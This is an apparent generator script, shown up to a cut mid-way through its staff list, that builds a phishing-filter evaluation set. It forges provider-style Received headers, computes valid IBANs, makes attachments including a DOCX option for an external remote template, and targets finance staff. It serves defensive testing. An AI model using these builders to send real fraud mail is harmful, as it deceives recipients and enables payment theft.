#!/usr/bin/env python3
"""Example Group – spam/phishing filter evaluation set generator.

Deterministic, Python 3 standard library only, no network.
Run from /tmp/audit26:  python3 gen/build.py
"""
import base64, hashlib, html as _html, io, os, quopri, re, struct, zipfile, zlib
from datetime import datetime, timedelta, timezone
from email.header import Header
from email.mime.base import MIMEBase
from email.mime.message import MIMEMessage
from email.mime.multipart import MIMEMultipart
from email.mime.nonmultipart import MIMENonMultipart
from email.utils import format_datetime, formataddr
from email import policy as _policy

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
POL = _policy.compat32.clone(linesep='\n', max_line_length=998)

# ---------------------------------------------------------------- helpers
def H(seed, n=16, alpha='0123456789ABCDEF'):
    """deterministic pseudo-random string"""
    out, i = '', 0
    while len(out) < n:
        d = hashlib.sha256(f'{seed}/{i}'.encode()).digest()
        out += ''.join(alpha[b % len(alpha)] for b in d)
        i += 1
    return out[:n]

def HN(seed, lo, hi):
    d = int(hashlib.sha256(str(seed).encode()).hexdigest(), 16)
    return lo + d % (hi - lo + 1)

def T(s):
    """strip the first newline of a triple-quoted block"""
    return s[1:] if s.startswith('\n') else s

# ---------------------------------------------------------------- banking
def iban(cc, bban):
    bban = bban.replace(' ', '').upper()
    n = int(''.join(str(int(ch, 36)) for ch in bban + cc + '00'))
    return f'{cc}{98 - n % 97:02d}{bban}'

def fmt_iban(i):
    return ' '.join(i[k:k + 4] for k in range(0, len(i), 4))

def check_iban(i):
    i = i.replace(' ', '')
    return int(''.join(str(int(ch, 36)) for ch in i[4:] + i[:4])) % 97 == 1

def de_iban(blz, konto):
    return iban('DE', blz + konto.zfill(10))

_IT_ODD = dict(zip('0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ',
                   [1, 0, 5, 7, 9, 13, 15, 17, 19, 21,
                    1, 0, 5, 7, 9, 13, 15, 17, 19, 21, 2, 4, 18, 20, 11, 3, 6, 8, 12, 14, 16, 10, 22, 25, 24, 23]))
def it_iban(abi, cab, conto):
    s = abi + cab + conto.zfill(12)
    tot = 0
    for k, ch in enumerate(s):
        if k % 2 == 0:
            tot += _IT_ODD[ch]
        else:
            tot += int(ch) if ch.isdigit() else ord(ch) - 65
    return iban('IT', chr(65 + tot % 26) + s)

def es_iban(entidad, oficina, cuenta):
    w = [1, 2, 4, 8, 5, 10, 9, 7, 3, 6]
    def dc(s):
        d = 11 - sum(int(a) * b for a, b in zip(s, w)) % 11
        return {11: 0, 10: 1}.get(d, d)
    c = cuenta.zfill(10)
    return iban('ES', entidad + oficina + f'{dc("00" + entidad + oficina)}{dc(c)}' + c)

def pl_iban(bank3, branch4, acct16):
    s = bank3 + branch4
    chk = (10 - sum(int(a) * b for a, b in zip(s, [3, 9, 7, 1, 3, 9, 7])) % 10) % 10
    return iban('PL', s + str(chk) + acct16.zfill(16))

def gr_iban(bank3, branch4, acct):
    return iban('GR', bank3 + branch4 + acct.zfill(16))

def gb_iban(bank4, sort6, acct8):
    return iban('GB', bank4 + sort6 + acct8)

def lt_iban(bank5, acct11):
    return iban('LT', bank5 + acct11.zfill(11))

def ru_account(bik, acct_with_key_zero):
    """Russian settlement account: fill control key (9th digit) from BIK"""
    a = acct_with_key_zero
    s = bik[-3:] + a[:8] + '0' + a[9:]
    tot = sum(int(c) * [7, 1, 3][k % 3] for k, c in enumerate(s))
    key = ((10 - tot % 10) % 10 * 7) % 10
    return a[:8] + str(key) + a[9:]

def ru_corr(bik, acct):
    a = acct
    s = '0' + bik[4:6] + a[:8] + '0' + a[9:]
    tot = sum(int(c) * [7, 1, 3][k % 3] for k, c in enumerate(s))
    key = ((10 - tot % 10) % 10 * 7) % 10
    return a[:8] + str(key) + a[9:]

def ru_inn10(first9):
    w = [2, 4, 10, 3, 5, 9, 4, 6, 8]
    return first9 + str(sum(int(a) * b for a, b in zip(first9, w)) % 11 % 10)

# ---------------------------------------------------------------- dates
def dt(s, tz='+0100'):
    sign = 1 if tz[0] == '+' else -1
    off = timedelta(hours=int(tz[1:3]), minutes=int(tz[3:5])) * sign
    return datetime.strptime(s, '%Y-%m-%d %H:%M:%S').replace(tzinfo=timezone(off))

def berlin(d):
    u = d.astimezone(timezone.utc)
    dst = datetime(2026, 3, 29, 1, tzinfo=timezone.utc) <= u < datetime(2026, 10, 25, 1, tzinfo=timezone.utc)
    return u.astimezone(timezone(timedelta(hours=2 if dst else 1)))

def rfcdate(d):
    return format_datetime(d)

# ---------------------------------------------------------------- attachments
def pdf_bytes(lines, title='Document'):
    """minimal valid one-page PDF with Helvetica text (latin-1)"""
    def esc(s):
        s = s.encode('latin-1', 'replace').decode('latin-1')
        return s.replace('\\', '\\\\').replace('(', '\\(').replace(')', '\\)')
    y = 800
    ops = ['BT', '/F1 10 Tf', '12 TL', f'50 {y} Td']
    first = True
    for ln in lines:
        if ln.startswith('#'):
            ops.append('/F2 13 Tf')
            ops.append(f'({esc(ln[1:].strip())}) Tj T*')
            ops.append('/F1 10 Tf')
        else:
            ops.append(f'({esc(ln)}) Tj T*')
    ops.append('ET')
    content = '\n'.join(ops).encode('latin-1')
    objs = [
        b'<< /Type /Catalog /Pages 2 0 R >>',
        b'<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        b'<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R '
        b'/Resources << /Font << /F1 5 0 R /F2 6 0 R >> >> >>',
        b'<< /Length ' + str(len(content)).encode() + b' >>\nstream\n' + content + b'\nendstream',
        b'<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>',
        b'<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica-Bold /Encoding /WinAnsiEncoding >>',
        b'<< /Title (' + esc(title).encode('latin-1') + b') /Producer (PDF Library 15.0) /CreationDate (D:20260301090000+01\'00\') >>',
    ]
    out = io.BytesIO()
    out.write(b'%PDF-1.4\n%\xe2\xe3\xcf\xd3\n')
    offs = []
    for k, o in enumerate(objs, 1):
        offs.append(out.tell())
        out.write(f'{k} 0 obj\n'.encode() + o + b'\nendobj\n')
    xref = out.tell()
    out.write(f'xref\n0 {len(objs) + 1}\n0000000000 65535 f \n'.encode())
    for o in offs:
        out.write(f'{o:010d} 00000 n \n'.encode())
    out.write(f'trailer\n<< /Size {len(objs) + 1} /Root 1 0 R /Info 7 0 R >>\nstartxref\n{xref}\n%%EOF\n'.encode())
    return out.getvalue()

ZDATE = (2026, 3, 2, 9, 0, 0)
def zip_bytes(files):
    b = io.BytesIO()
    with zipfile.ZipFile(b, 'w', zipfile.ZIP_DEFLATED) as z:
        for name, data in files:
            zi = zipfile.ZipInfo(name, ZDATE)
            zi.compress_type = zipfile.ZIP_DEFLATED
            z.writestr(zi, data if isinstance(data, bytes) else data.encode('utf-8'))
    return b.getvalue()

def docx_bytes(paragraphs, remote_template=None):
    W = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main'
    ct = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
          '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
          '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
          '<Default Extension="xml" ContentType="application/xml"/>'
          '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
          '<Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/>'
          '</Types>')
    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>'
            '</Relationships>')
    body = ''.join(f'<w:p><w:r><w:t xml:space="preserve">{_html.escape(p)}</w:t></w:r></w:p>' for p in paragraphs)
    doc = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:document xmlns:w="{W}" '
           'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
           f'<w:body>{body}<w:sectPr/></w:body></w:document>')
    docrels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
               '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
               '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/settings" Target="settings.xml"/>'
               '</Relationships>')
    if remote_template:
        settings = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:settings xmlns:w="{W}" '
                    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
                    '<w:attachedTemplate r:id="rId1"/></w:settings>')
        setrels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                   '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                   '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
                   f'Target="{_html.escape(remote_template)}" TargetMode="External"/></Relationships>')
    else:
        settings = f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:settings xmlns:w="{W}"/>'
        setrels = None
    files = [('[Content_Types].xml', ct), ('_rels/.rels', rels), ('word/document.xml', doc),
             ('word/_rels/document.xml.rels', docrels), ('word/settings.xml', settings)]
    if setrels:
        files.append(('word/_rels/settings.xml.rels', setrels))
    return zip_bytes(files)

def xlsx_bytes(rows, sheet='Tabelle1'):
    def col(i):
        s = ''
        i += 1
        while i:
            i, r = divmod(i - 1, 26)
            s = chr(65 + r) + s
        return s
    xr = []
    for ri, row in enumerate(rows, 1):
        cells = ''.join(f'<c r="{col(ci)}{ri}" t="inlineStr"><is><t>{_html.escape(str(v))}</t></is></c>'
                        for ci, v in enumerate(row))
        xr.append(f'<row r="{ri}">{cells}</row>')
    files = [
        ('[Content_Types].xml', '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
         '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
         '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
         '<Default Extension="xml" ContentType="application/xml"/>'
         '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
         '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
         '</Types>'),
        ('_rels/.rels', '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
         '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
         '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
         '</Relationships>'),
        ('xl/workbook.xml', '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
         '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
         'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
         f'<sheets><sheet name="{_html.escape(sheet)}" sheetId="1" r:id="rId1"/></sheets></workbook>'),
        ('xl/_rels/workbook.xml.rels', '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
         '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
         '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
         '</Relationships>'),
        ('xl/worksheets/sheet1.xml', '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
         '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
         f'<sheetData>{"".join(xr)}</sheetData></worksheet>'),
    ]
    return zip_bytes(files)

def ics(uid, organizer, attendee, start, end, summary, description, location='', method='REQUEST'):
    def esc(s):
        return s.replace('\\', '\\\\').replace(';', '\\;').replace(',', '\\,').replace('\n', '\\n')
    def fold(line):
        b = line.encode('utf-8')
        out, cur = [], b''
        for ch in line:
            cb = ch.encode('utf-8')
            if len(cur) + len(cb) > (75 if not out else 74):
                out.append(cur)
                cur = b''
            cur += cb
        out.append(cur)
        return '\r\n '.join(x.decode('utf-8') for x in out)
    u = lambda d: d.astimezone(timezone.utc).strftime('%Y%m%dT%H%M%SZ')
    L = ['BEGIN:VCALENDAR', 'PRODID:-//Microsoft Corporation//Outlook 16.0 MIMEDIR//EN', 'VERSION:2.0',
         f'METHOD:{method}', 'BEGIN:VEVENT',
         f'ORGANIZER;CN="{organizer[0]}":mailto:{organizer[1]}',
         f'ATTENDEE;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=TRUE;CN="{attendee[0]}":mailto:{attendee[1]}',
         f'DESCRIPTION:{esc(description)}', f'UID:{uid}', f'SUMMARY:{esc(summary)}',
         f'DTSTART:{u(start)}', f'DTEND:{u(end)}', f'DTSTAMP:{u(start - timedelta(days=2))}',
         f'LOCATION:{esc(location)}', 'SEQUENCE:0', 'STATUS:CONFIRMED', 'TRANSP:OPAQUE',
         'BEGIN:VALARM', 'ACTION:DISPLAY', 'DESCRIPTION:REMINDER', 'TRIGGER:-PT15M', 'END:VALARM',
         'END:VEVENT', 'END:VCALENDAR']
    return '\r\n'.join(fold(x) for x in L) + '\r\n'

# ---------------------------------------------------------------- QR code (byte mode, version 3-L, mask 0)
_EXP = [0] * 512
_LOG = [0] * 256
_x = 1
for _i in range(255):
    _EXP[_i] = _x
    _LOG[_x] = _i
    _x <<= 1
    if _x & 0x100:
        _x ^= 0x11D
for _i in range(255, 512):
    _EXP[_i] = _EXP[_i - 255]

def _gmul(a, b):
    return 0 if a == 0 or b == 0 else _EXP[_LOG[a] + _LOG[b]]

def _rs(data, n):
    g = [1]
    for i in range(n):
        ng = [0] * (len(g) + 1)
        for j, c in enumerate(g):
            ng[j] ^= c
            ng[j + 1] ^= _gmul(c, _EXP[i])
        g = ng
    res = list(data) + [0] * n
    for i in range(len(data)):
        c = res[i]
        if c:
            for j in range(1, len(g)):
                res[i + j] ^= _gmul(g[j], c)
    return res[len(data):]

def qr_matrix(text):
    data = text.encode('utf-8')
    ver, size, ndata, nec = 3, 29, 55, 15
    assert len(data) <= 53, 'QR payload too long'
    bits = [0, 1, 0, 0] + [int(b) for b in f'{len(data):08b}']
    for byte in data:
        bits += [int(b) for b in f'{byte:08b}']
    bits += [0] * min(4, ndata * 8 - len(bits))
    while len(bits) % 8:
        bits.append(0)
    cw = [int(''.join(map(str, bits[i:i + 8])), 2) for i in range(0, len(bits), 8)]
    pad = [0xEC, 0x11]
    k = 0
    while len(cw) < ndata:
        cw.append(pad[k % 2])
        k += 1
    cw += _rs(cw, nec)
    M = [[0] * size for _ in range(size)]
    F = [[False] * size for _ in range(size)]
    def setf(x, y, v):
        M[y][x] = 1 if v else 0
        F[y][x] = True
    for i in range(size):
        setf(6, i, i % 2 == 0)
        setf(i, 6, i % 2 == 0)
    for cx, cy in ((3, 3), (size - 4, 3), (3, size - 4)):
        for dy in range(-4, 5):
            for dx in range(-4, 5):
                x, y = cx + dx, cy + dy
                if 0 <= x < size and 0 <= y < size:
                    d = max(abs(dx), abs(dy))
                    setf(x, y, d not in (2, 4))
    for dy in range(-2, 3):
        for dx in range(-2, 3):
            setf(22 + dx, 22 + dy, max(abs(dx), abs(dy)) != 1)
    fdata = (1 << 3) | 0  # EC level L = 01, mask 0
    rem = fdata
    for _ in range(10):
        rem = (rem << 1) ^ ((rem >> 9) * 0x537)
    fbits = ((fdata << 10) | rem) ^ 0x5412
    gb = lambda i: (fbits >> i) & 1
    for i in range(6):
        setf(8, i, gb(i))
    setf(8, 7, gb(6)); setf(8, 8, gb(7)); setf(7, 8, gb(8))
    for i in range(9, 15):
        setf(14 - i, 8, gb(i))
    for i in range(8):
        setf(size - 1 - i, 8, gb(i))
    for i in range(8, 15):
        setf(8, size - 15 + i, gb(i))
    setf(8, size - 8, True)
    i = 0
    for right in range(size - 1, 0, -2):
        if right <= 6:
            right -= 1
        for vert in range(size):
            for j in range(2):
                x = right - j
                up = ((right + 1) & 2) == 0
                y = size - 1 - vert if up else vert
                if not F[y][x] and i < len(cw) * 8:
                    M[y][x] = (cw[i >> 3] >> (7 - (i & 7))) & 1
                    i += 1
    for y in range(size):
        for x in range(size):
            if not F[y][x] and (x + y) % 2 == 0:
                M[y][x] ^= 1
    return M

def qr_png(text, scale=6, quiet=4):
    M = qr_matrix(text)
    n = len(M)
    W = (n + 2 * quiet) * scale
    raw = bytearray()
    for py in range(W):
        raw.append(0)
        my = py // scale - quiet
        for px in range(W):
            mx = px // scale - quiet
            dark = 0 <= mx < n and 0 <= my < n and M[my][mx]
            raw.append(0 if dark else 255)
    def chunk(t, d):
        c = struct.pack('>I', len(d)) + t + d
        return c + struct.pack('>I', zlib.crc32(t + d) & 0xffffffff)
    return (b'\x89PNG\r\n\x1a\n' + chunk(b'IHDR', struct.pack('>IIBBBBB', W, W, 8, 0, 0, 0, 0)) +
            chunk(b'IDAT', zlib.compress(bytes(raw), 9)) + chunk(b'IEND', b''))

# ---------------------------------------------------------------- MIME building
_FALLBACK = {'–': '-', '—': '-', '„': '"', '“': '"', '”': '"', '’': "'", '‘': "'", '…': '...',
             '€': 'EUR', '«': '"', '»': '"', '№': 'N', '·': '-', '°': ' Grad', '²': '2', '³': '3', '×': 'x', '\u00a0': ' ', '©': '(c)', '→': '->', '▶': '>'}
def fit_charset(text, cs):
    out = []
    for ch in text:
        try:
            ch.encode(cs)
            out.append(ch)
        except UnicodeEncodeError:
            out.append(_FALLBACK[ch])
    return ''.join(out)

def tpart(text, sub='plain', cs='utf-8', cte='qp'):
    text = fit_charset(text.replace('\r\n', '\n'), cs)
    raw = text.encode(cs)
    p = MIMENonMultipart('text', sub, charset=cs)
    del p['MIME-Version']
    if cte == 'qp':
        p.set_payload(quopri.encodestring(raw).decode('ascii'))
        p['Content-Transfer-Encoding'] = 'quoted-printable'
    elif cte == 'b64':
        p.set_payload(base64.encodebytes(raw).decode('ascii'))
        p['Content-Transfer-Encoding'] = 'base64'
    else:
        raw.decode('ascii')
        p.set_payload(text)
        p['Content-Transfer-Encoding'] = '7bit'
    return p

def _fname_params(fname):
    try:
        fname.encode('ascii')
        return fname
    except UnicodeEncodeError:
        return ('utf-8', '', fname)

def apart(fname, ctype, data, cid=None, inline=False, extra=None):
    maint, sub = ctype.split('/')
    p = MIMEBase(maint, sub)
    del p['MIME-Version']
    if extra:
        for k, v in extra.items():
            p.set_param(k, v)
    p.set_param('name', _fname_params(fname))
    if isinstance(data, str):
        data = data.encode('utf-8')
    p.set_payload(base64.encodebytes(data).decode('ascii'))
    p['Content-Transfer-Encoding'] = 'base64'
    if cid:
        p['Content-ID'] = f'<{cid}>'
    p.add_header('Content-Disposition', 'inline' if inline else 'attachment', filename=_fname_params(fname))
    return p

def auto_html(text, font='Calibri, Arial, sans-serif'):
    out = []
    for para in text.split('\n\n'):
        e = _html.escape(para)
        e = re.sub(r'(https?://[^\s<>&]+(?:&amp;[^\s<>&]+)*)', r'<a href="\1">\1</a>', e)
        out.append('<p>' + e.replace('\n', '<br>\n') + '</p>')
    return (f'<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>'
            f'<body><div style="font-family:{font};font-size:11pt">\n' + '\n'.join(out) + '\n</div></body></html>\n')

# ---------------------------------------------------------------- Received chains
def _hops(route, d, rcpt, seed, frm_dom):
    k = route['kind']
    qid = H(seed + 'q', 11, '0123456789BCDFGHJKLMNPQRSTVWXYZ')
    top_t = berlin(d + timedelta(seconds=HN(seed + 't', 2, 40)))
    inner_t = d + timedelta(seconds=HN(seed + 'u', 0, 2))
    def top(helo, rdns, ip):
        return (f'from {helo} ({rdns} [{ip}])\n\tby mx01.example.com with ESMTPS id {qid}\n'
                f'\tfor <{rcpt}>; {rfcdate(top_t)}')
    if k == 'int':
        cl = route.get('client', 'NB-STR-' + H(seed, 4, '0123456789'))
        cip = route.get('cip', f'10.{HN(seed + "a", 21, 34)}.{HN(seed + "b", 1, 20)}.{HN(seed + "c", 10, 250)}')
        return [top('mail-int01.example.com', 'mail-int01.example.com', '10.20.0.25'),
                f'from {cl} ({cl}.corp.example.com [{cip}])\n\tby mail-int01.example.com (Postfix) with ESMTPSA id '
                f'{H(seed + "i", 10, "0123456789ABCDEF")}\n\tfor <{rcpt}>; {rfcdate(berlin(inner_t))}']
    if k == 'o365':
        ip = route['ip']
        srv = route.get('srv', f'{route.get("pfx", "AS8PR04")}MB{HN(seed + "s", 1000, 9999)}')
        reg = route.get('reg', 'eurprd04')
        rd = 'mail-' + route.get('rdns', f'am6eur05on{HN(seed + "r", 2000, 2199)}') + '.outbound.protection.outlook.com'
        helo = route.get('helo', 'EUR05-AM6-obe.outbound.protection.outlook.com')
        return [top(helo, rd, ip),
                f'from {srv}.{reg}.prod.outlook.com ([fe80::{H(seed + "v", 4, "0123456789abcdef")}:'
                f'{H(seed + "w", 4, "0123456789abcdef")}:{H(seed + "x", 4, "0123456789abcdef")}:'
                f'{H(seed + "y", 3, "0123456789abcdef")}]) by {srv}.{reg}.prod.outlook.com\n'
                f'\t([fe80::{H(seed + "v", 4, "0123456789abcdef")}:{H(seed + "w", 4, "0123456789abcdef")}:'
                f'{H(seed + "x", 4, "0123456789abcdef")}:{H(seed + "y", 3, "0123456789abcdef")}%5]) with mapi id 15.20.{HN(seed + "m", 8400, 8700)}.{HN(seed + "n", 10, 40):03d};\n'
                f'\t{rfcdate(inner_t.astimezone(timezone.utc).replace(tzinfo=timezone.utc))}'.replace('+0000', '+0000')]
    if k == 'gmail':
        ip = route.get('ip', f'209.85.{HN(seed + "g", 128, 221)}.{HN(seed + "h", 41, 99)}')
        h = route.get('host', f'mail-{route.get("pre", "wr1")}-f{ip.split(".")[-1]}.google.com')
        pt = inner_t.astimezone(timezone(timedelta(hours=-8 if d.month < 3 or (d.month == 3 and d.day < 8) else -7)))
        return [top(h, h, ip),
                f'by {h} with SMTP id {H(seed + "g1", 13, "0123456789abcdef")}-{H(seed + "g2", 12, "0123456789abcdef")}.{HN(seed, 1, 20)}\n'
                f'\tfor <{rcpt}>; {rfcdate(pt)}']
    if k == 'postfix':
        host, ip = route['host'], route['ip']
        rdns = route.get('rdns', host)
        cip = route.get('cip', f'192.168.{HN(seed + "p", 0, 10)}.{HN(seed + "o", 20, 200)}')
        chost = route.get('chost', 'unknown')
        via = route.get('via', 'ESMTPSA')
        lst = [top(host, rdns, ip),
               f'from [{cip}] ({chost} [{route.get("pub", cip)}])\n\tby {host} (Postfix) with {via} id '
               f'{H(seed + "k", 10, "0123456789ABCDEF")}\n\tfor <{rcpt}>; {rfcdate(d + timedelta(seconds=1))}']
        return lst
    if k == 'saas':
        return [top(route['host'], route.get('rdns', route['host']), route['ip']),
                f'by {route.get("inner", route["host"])} with SMTP id {H(seed + "z", 22, "0123456789abcdefghijklmnopqrstuvwxyz")}\n'
                f'\tfor <{rcpt}>; {rfcdate(d.astimezone(timezone.utc))}']
    raise ValueError(k)

def _msgid(route, seed, frm_dom):
    k = route['kind']
    if 'mid' in route:
        return route['mid']
    if k == 'o365':
        srv = route.get('srv', f'{route.get("pfx", "AS8PR04")}MB{HN(seed + "s", 1000, 9999)}')
        return f'<{srv}{H(seed + "mid", 12)}{HN(seed, 1000, 9999)}@{srv}.{route.get("reg", "eurprd04")}.prod.outlook.com>'
    if k == 'gmail':
        return f'<CA{H(seed + "mid", 42, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_+-")}@mail.gmail.com>'
    if k == 'int':
        return f'<{H(seed + "mid", 8, "0123456789abcdef")}-{H(seed + "mid2", 4, "0123456789abcdef")}-{H(seed + "mid3", 12, "0123456789abcdef")}@example.com>'
    return f'<{H(seed + "mid", 20, "0123456789abcdef")}.{HN(seed, 100000, 999999)}@{route.get("mdom", frm_dom)}>'

def enc_hdr(s, cs):
    try:
        s.encode('ascii')
        return s
    except UnicodeEncodeError:
        hcs = cs if cs not in ('us-ascii',) else 'utf-8'
        try:
            s.encode(hcs)
        except (UnicodeEncodeError, LookupError):
            hcs = 'utf-8'
        return Header(s, hcs, maxlinelen=76, header_name='Subject').encode()

def addr(p, cs='utf-8'):
    name, a = p
    if not name:
        return a
    try:
        name.encode('ascii')
        return formataddr((name, a))
    except UnicodeEncodeError:
        hcs = cs
        try:
            name.encode(hcs)
        except (UnicodeEncodeError, LookupError):
            hcs = 'utf-8'
        return formataddr((name, a), charset=hcs)

MESSAGES = []

def msg(kind, nn, lang, *, frm, to, subj, date, text=None, html=None, cs='utf-8', cte='qp', hcs=None,
        atts=(), related=(), route, cc=(), reply_to=None, irt=None, refs=None, hdrs=(), rcpt=None,
        note='', calendar=None, html_cs=None, root_override=None):
    if isinstance(to, tuple):
        to = [to]
    if isinstance(cc, tuple) and cc and isinstance(cc[0], str):
        cc = [cc]
    hcs = hcs or cs
    seed = f'{kind}{nn}{lang}'
    # body
    if root_override is not None:
        root = root_override
    else:
        parts = []
        if text is not None:
            parts.append(tpart(text, 'plain', cs, cte))
        if html is not None:
            hcs_h = html_cs or cs
            hp = tpart(html.replace('charset=utf-8', f'charset={hcs_h}'), 'html', hcs_h, cte)
            if related:
                rel = MIMEMultipart('related', boundary=f'----=_rel_{H(seed + "br", 24)}')
                del rel['MIME-Version']
                rel.attach(hp)
                for cid, ctype, data, fn in related:
                    rel.attach(apart(fn, ctype, data, cid=cid, inline=True))
                hp = rel
            parts.append(hp)
        if calendar is not None:
            cp = tpart(calendar, 'calendar', 'utf-8', 'b64')
            cp.set_param('method', 'REQUEST')
            parts.append(cp)
        if len(parts) == 1:
            body = parts[0]
        else:
            body = MIMEMultipart('alternative', boundary=f'----=_alt_{H(seed + "ba", 24)}')
            del body['MIME-Version']
            for p in parts:
                body.attach(p)
        if atts:
            root = MIMEMultipart('mixed', boundary=f'----=_mix_{H(seed + "bm", 24)}')
            del root['MIME-Version']
            root.attach(body)
            for a in atts:
                root.attach(a if not isinstance(a, tuple) else apart(*a))
        else:
            root = body
    d = dt(*date) if isinstance(date, tuple) else dt(date)
    rcpt = rcpt or to[0][1]
    frm_dom = frm[1].split('@')[1]
    hl = [('Received', r) for r in _hops(route, d, rcpt, seed, frm_dom)]
    hl += [(k, v) for k, v in hdrs if k.lower().startswith('x-') and k.lower() in ('x-originating-ip',)]
    hl.append(('From', addr(frm, hcs)))
    hl.append(('To', ', '.join(addr(t, hcs) for t in to)))
    if cc:
        hl.append(('Cc', ', '.join(addr(t, hcs) for t in cc)))
    if reply_to:
        hl.append(('Reply-To', addr(reply_to, hcs)))
    hl.append(('Subject', enc_hdr(subj, hcs)))
    hl.append(('Date', rfcdate(d)))
    hl.append(('Message-ID', _msgid(route, seed, frm_dom)))
    if irt:
        hl.append(('In-Reply-To', irt))
        hl.append(('References', refs or irt))
    hl += [(k, enc_hdr(v, hcs)) for k, v in hdrs if k.lower() not in ('x-originating-ip',)]
    hl.append(('MIME-Version', '1.0'))
    head = ''.join(f'{k}: {v}\n' for k, v in hl)
    data = head.encode('ascii') + root.as_bytes(policy=POL)
    MESSAGES.append(dict(kind=kind, nn=nn, lang=lang, data=data, note=note, subj=subj, frm=frm, to=to))

# ---------------------------------------------------------------- people
STAFF = [
    # key, display name, address, role, site
    ('brenner', 'Dr. Matthias Brenner', 'm.brenner@example.com', 'CEO (Vorstandsvorsitzender)', 'HQ Stuttgart, DE'),
    ('hartmann', 'Julia Hartmann', 'j.hartmann@example.com', 'Executive assistant to the CEO', 'HQ Stuttgart, DE'),
    ('vogelsang', 'Katrin Vogelsang', 'k.vogelsang@example.com', 'CFO', 'HQ Stuttgart, DE'),
    ('krueger', 'Sabine Krüger', 's.krueger@example.com', 'Accounts payable (Kreditorenbuchhaltung) DE', 'HQ Stuttgart, DE'),
    ('wendt', 'Anja Wendt', 'a.wendt@example.com', 'Payroll (Lohn- und Gehaltsabrechnung) group', 'HQ Stuttgart, DE'),
    ('neumann', 'Petra Neumann', 'p.neumann@example.com', 'Head of HR', 'HQ Stuttgart, DE'),
    ('hoffmann', 'Jörg Hoffmann', 'j.hoffmann@example.com', 'Head of Purchasing (Einkauf)', 'HQ Stuttgart, DE'),
    ('schaefer', 'Tobias Schäfer', 't.schaefer@example.com', 'IT administrator (M365 / mail)', 'HQ Stuttgart, DE'),
    ('reinholz', 'Dr. Claudia Reinholz', 'c.reinholz@example.com', 'General counsel (Rechtsabteilung)', 'HQ Stuttgart, DE'),
    ('lindner', 'Markus Lindner', 'm.lindner@example.com', 'Bid / tender manager DE (Kalkulation & Vergabe)', 'HQ Stuttgart, DE'),
    ('orlowski', 'Stefan Orlowski', 's.orlowski@example.com', 'Site manager (Oberbauleiter) Klinikum Nordstadt', 'Site, DE'),
    ('rinaldi', 'Alessandro Rinaldi', 'a.rinaldi@examplegroup.eu', 'Branch director Italy (legale rappresentante)', 'Milano, IT'),
    ('galli', 'Francesca Galli', 'f.galli@examplegroup.eu', 'Accounts payable Italy (contabilità fornitori)', 'Milano, IT'),
    ('desantis', 'Marco De Santis', 'm.desantis@examplegroup.eu', 'Tender manager Italy (ufficio gare)', 'Milano, IT'),
    ('wojcik', 'Małgorzata Wójcik', 'm.wojcik@examplegroup.eu', 'Accounts payable Poland (księgowość)', 'Wrocław, PL'),
    ('dabrowski', 'Paweł Dąbrowski', 'p.dabrowski@examplegroup.eu', 'Site manager Poland (kierownik budowy)', 'Wrocław, PL'),
    ('kowalczyk', 'Agnieszka Kowalczyk', 'a.kowalczyk@examplegroup.eu', 'HR & payroll Poland (kadry i płace)', 'Wrocław, PL'),
